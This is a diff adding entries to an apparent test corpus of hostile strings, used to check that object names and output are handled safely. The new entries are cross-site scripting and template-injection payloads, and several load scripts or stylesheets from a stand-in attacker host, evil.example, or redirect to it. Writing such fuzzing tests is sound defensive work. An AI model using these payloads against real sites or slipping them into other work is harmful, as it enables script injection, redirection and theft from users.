@@ -30,6 +30,18 @@ CORPUS = (
     "\u202egnp.exe\u200b",
     "&lt;b&gt;&amp;#x3C;",
     "a\tb\nc\x1b[2J",
+    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
+    "<iframe srcdoc='<script>parent.alert(1)</script>'>",
+    '"><meta http-equiv="refresh" content="0;url=//evil.example">',
+    "<base href=//evil.example/><link rel=stylesheet href=//evil.example/x.css>",
+    "<style>@import '//evil.example/x.css'; *{background:url(//evil.example/y)}</style>",
+    "<form action=//evil.example><button autofocus>x</button></form>",
+    "<math><mtext><img src=x onerror=alert(1)></math>",
+    "</title></textarea></style><script src=//evil.example/x.js></script>",
+    "<details open ontoggle=alert(1)><summary>x</summary></details>",
+    "data:text/html,<script>alert(1)</script>",
+    "--><!--]]><![CDATA[${alert(1)}#{7*7}<%= 7*7 %>",
+    "{{constructor.constructor('alert(1)')()}}",
 )
 ALL = " ".join(CORPUS)
 NAME = ALL.replace("/", "").replace("%", "")  # the two characters that no object's name may hold
